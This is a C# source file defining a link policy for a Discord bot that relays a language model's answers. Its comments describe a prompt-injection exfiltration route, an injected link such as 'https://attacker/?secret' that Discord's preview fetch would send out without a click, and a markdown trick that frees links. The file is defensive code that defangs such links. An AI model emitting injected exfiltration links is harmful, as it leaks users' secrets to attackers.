namespace DiscordIntel.Discord;

/// <summary>
/// Which links of a model's text may be live in Discord. A link that is not allowed is shown as code: Discord fetches live links for their preview, so an
/// injected <c>https://attacker/?secret</c> would send the secret without a click. Hosts are compared whole: <c>example.com</c> does not allow
/// <c>docs.example.com</c>.
/// </summary>
public sealed record LinkPolicy
{
    /// <summary>Only links to hosts that the user named; without <see cref="UserText"/> none.</summary>
    public static LinkPolicy Default { get; } = new();

    /// <summary>Every link stays live. The target of a masked link is still shown.</summary>
    public static LinkPolicy AllowAll { get; } = new() { AllowsEveryHost = true };

    /// <summary>Hosts that are always allowed, such as <c>example.com</c>.</summary>
    /// <value>Host names without scheme and port; case does not matter. Default: none.</value>
    public IReadOnlyCollection<string> AllowedHosts { get; init; } = [];

    /// <summary>What the user wrote: hosts that stand in it are allowed in the answer.</summary>
    /// <value>Default: empty.</value>
    public string UserText { get; init; } = "";

    /// <summary>
    /// Whether links within code blocks stay as they are, so that code can be copied. Discord shows no link in a block. But there the mark that opens first wins:
    /// bold or a spoiler that begins before a block and ends in it would set its links free. False writes <c>hxxps://</c> in blocks, too; choose it where a model
    /// reads what strangers wrote and your adapter cannot suppress embeds.
    /// </summary>
    /// <value>Default: true.</value>
    public bool AllowInCodeBlocks { get; init; } = true;

    /// <summary>Whether hosts are not looked at.</summary>
    internal bool AllowsEveryHost { get; private init; }
}
